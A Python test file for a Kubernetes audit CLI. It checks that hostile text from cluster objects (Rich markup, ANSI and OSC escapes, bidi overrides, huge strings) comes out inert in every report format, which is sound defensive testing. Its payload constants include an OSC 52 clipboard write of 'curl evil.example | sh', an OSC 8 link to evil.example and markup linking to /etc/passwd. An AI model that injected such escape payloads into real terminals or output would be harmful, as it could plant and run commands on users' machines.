"""Hostile text from the cluster is data, never markup or terminal control.

Names, labels, annotations, images, status messages, server error messages and the version
string carry Rich markup, ANSI/OSC escapes (OSC 52 clipboard writes, OSC 8 links), C1 controls,
bidi overrides, NULs and megabyte-long strings. They are served by the replay API server and
scanned end to end in every output format; the checks also run over a poisoned demo inventory.
The TUI side (Rich markup never interpreted in screens) is covered by the TUI's own tests.
"""

from __future__ import annotations

import argparse
import base64
import copy
import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from k8saudit.cli import build_parser, main
from k8saudit.export import render
from k8saudit.inventory import Inventory
from k8saudit.model import Status
from k8saudit.render import report_dict
from k8saudit.report import CollectionInfo, evaluate
from k8saudit.textsafe import is_safe
from tests import factories as f
from tests.demo import COLLECTED_AT, build_inventory
from tests.replay import ReplayServer

RICH = "[bold red]PWNED[/bold red][link=file:///etc/passwd]open me[/link]"
ANSI = "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H"
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
OSC8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
C1 = "\x9b2J\x9d0;title\x9c"
BIDI = "\u202egnp.exe\u202c\u2066x\u2069\u200f"
HOSTILE = f"{RICH}{ANSI}{OSC52}{OSC8}{C1}{BIDI}\x00\x7f\u2028\ufffe\uffff"
MEGABYTE = "M" * 1_000_000
# Characters that must never reach a terminal raw: ESC, BEL, C1, bidi, NUL, DEL, separators.
RAW_CONTROLS = (
    "\x1b",
    "\x07",
    "\x9b",
    "\x9d",
    "\x9c",
    "\u202e",
    "\u2066",
    "\u200f",
    "\x00",
    "\x7f",
    "\u2028",
)


def hostile_name(tag: str) -> str:
    return f"{tag}-{HOSTILE}"


def serve_hostile_cluster(srv: ReplayServer) -> dict[str, str]:
    """Hostile objects a scan will read and the checks will name in findings; returns the names."""
    names = {"binding": hostile_name("crb"), "sa": hostile_name("sa"), "node": hostile_name("node")}
    srv.set_version(git_version=f"v1.24.0+{HOSTILE}", platform=HOSTILE)
    srv.add_objects(
        "rbac.authorization.k8s.io",
        "v1",
        "clusterrolebindings",
        [
            f.clusterrolebinding(
                names["binding"], "cluster-admin", [f.subject("ServiceAccount", names["sa"], "kube-system")]
            ),
            f.clusterrolebinding(
                hostile_name("big") + MEGABYTE,
                "cluster-admin",
                [f.subject("ServiceAccount", MEGABYTE, "default")],
            ),
        ],
    )
    node = f.node(
        names["node"],
        kubelet=f"v1.21.0-{HOSTILE}",
        os_image=HOSTILE,
        kernel=HOSTILE,
        runtime=f"containerd://{HOSTILE}",
        labels={"team": HOSTILE, "huge": MEGABYTE},
        conditions={"Ready": "False"},
    )
    node["status"]["conditions"][0]["message"] = HOSTILE + MEGABYTE
    srv.add_objects("", "v1", "nodes", [node])
    pod = f.pod(
        hostile_name("pod"),
        "shop",
        labels={"app": HOSTILE},
        annotations={"note": HOSTILE, "blob": MEGABYTE},
        containers=[f.container("app", image=f"registry.example.com/{HOSTILE}:1", args=[MEGABYTE])],
        phase="Failed",
    )
    pod["status"]["message"] = HOSTILE
    srv.add_objects("", "v1", "pods", [pod])
    srv.add_objects(
        "", "v1", "configmaps", [f.configmap(hostile_name("cm"), "shop", data={HOSTILE: MEGABYTE})]
    )
    # An error message from the server itself.
    srv.fail("/api/v1/secrets", 403, times=None, body={"kind": "Status", "code": 403, "message": HOSTILE})
    return names


def format_choices(command: str) -> list[str]:
    parser = build_parser()
    subparsers = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    return list(next(a for a in subparsers.choices[command]._actions if a.dest == "format").choices)


def assert_inert(where: str, text: str) -> None:
    for char in RAW_CONTROLS:
        assert char not in text, f"{where}: raw {char!r} reached the output"


def assert_format_safe(fmt: str, out: str, names: dict[str, str]) -> None:
    assert_inert(f"--format {fmt}", out)
    if fmt == "text":
        assert all(is_safe(line) for line in out.splitlines())
        assert len(out) < 500_000, "megabyte strings are clipped in a terminal report"
        assert "[bold red]PWNED[/bold red]" in out, "markup is shown as the literal text it is"
        assert "\\x1b]52;c;" in out, "the escape is visible, not obeyed"
    elif fmt == "json":
        data = json.loads(out)
        subjects = {x["subject"]["name"] for x in data["findings"]}
        assert names["binding"] in subjects, "JSON keeps the exact text"
        assert data["cluster"]["version"]["platform"] == HOSTILE
    elif fmt == "markdown":
        assert "[link=file:///etc/passwd]" not in out, "markdown must escape brackets"
        assert "<" not in out.replace("\\<", ""), "no raw HTML from the cluster"


def test_hostile_cluster_text_is_inert_in_every_format(
    replay_server: ReplayServer, tmp_path: Path, capsys
) -> None:
    names = serve_hostile_cluster(replay_server)
    kubeconfig = replay_server.write_kubeconfig(tmp_path / "kubeconfig")
    snapshot = tmp_path / "hostile.json.gz"
    for fmt in format_choices("scan"):
        assert (
            main(["scan", "--kubeconfig", str(kubeconfig), "-o", str(snapshot), "-q", "--format", fmt]) == 0
        )
        out, err = capsys.readouterr()
        assert_format_safe(fmt, out, names)
        assert_inert("stderr", err)
    for fmt in format_choices("report"):
        assert main(["report", str(snapshot), "--format", fmt]) == 0
        out, err = capsys.readouterr()
        assert_format_safe(fmt, out, names)
        assert_inert("stderr", err)
    saved = json.loads(gzip.decompress(snapshot.read_bytes()))
    kept = {o["metadata"]["name"] for o in saved["inventory"]["objects"]["clusterrolebindings"]}
    assert names["binding"] in kept, "the snapshot keeps the exact text"
    assert saved["coverage"]["secrets"]["message"] == HOSTILE


def test_hostile_context_and_error_lines_stay_one_inert_line(
    replay_server: ReplayServer, tmp_path: Path, capsys
) -> None:
    kubeconfig = replay_server.write_kubeconfig(tmp_path / "kubeconfig")
    assert main(["scan", "--kubeconfig", str(kubeconfig), "--context", HOSTILE, "--no-save", "-q"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert_inert("error line", err)


# -- the checks over a poisoned inventory ---------------------------------------------------------

_TEXT_FIELDS = ("name", "namespace", "image", "message", "reason", "hostname", "host", "ip")


def poison(value: Any, key: str = "") -> Any:
    """Hostile text appended to names, label and annotation values, images, messages, hosts."""
    if isinstance(value, dict):
        out = {}
        for k, v in value.items():
            if k in ("labels", "annotations") and isinstance(v, dict):
                out[k] = {lk: f"{lv}{HOSTILE}" for lk, lv in v.items()} | {"k8saudit.test/blob": MEGABYTE}
            else:
                out[k] = poison(v, k)
        return out
    if isinstance(value, list):
        return [poison(v, key) for v in value]
    if isinstance(value, str) and key in _TEXT_FIELDS:
        return value + HOSTILE
    return value


def test_checks_survive_hostile_text_in_every_object() -> None:
    clean = build_inventory()
    objects = {key: [poison(copy.deepcopy(o)) for o in items] for key, items in clean.objects.items()}
    inventory = Inventory(
        objects, clean.coverage, clean.cluster, clean.served_api_versions, clean.applied_api_versions
    )
    report = evaluate(inventory, CollectionInfo(COLLECTED_AT, COLLECTED_AT))
    errors = [x for x in report.findings if x.status is Status.ERROR]
    assert not errors, [(x.check_id, x.message) for x in errors]
    assert len({x.check_id for x in report.findings}) > len(report.checks) // 2, "the checks did run"
    text = render(report, "text")
    assert all(is_safe(line) for line in text.splitlines())
    assert_inert("render_text", text)
    json.dumps(report_dict(report))  # serializable, whatever the text


@pytest.mark.parametrize("size", [10, 1_000_000])
def test_safe_text_is_linear_and_clipped(size: int) -> None:
    from k8saudit.textsafe import safe_markdown, safe_text

    hostile = (HOSTILE * (size // len(HOSTILE) + 1))[:size]
    for make_safe in (safe_text, safe_markdown):
        shown = make_safe(hostile)
        assert is_safe(shown) and len(shown) < 20_000
        assert_inert(make_safe.__name__, shown)
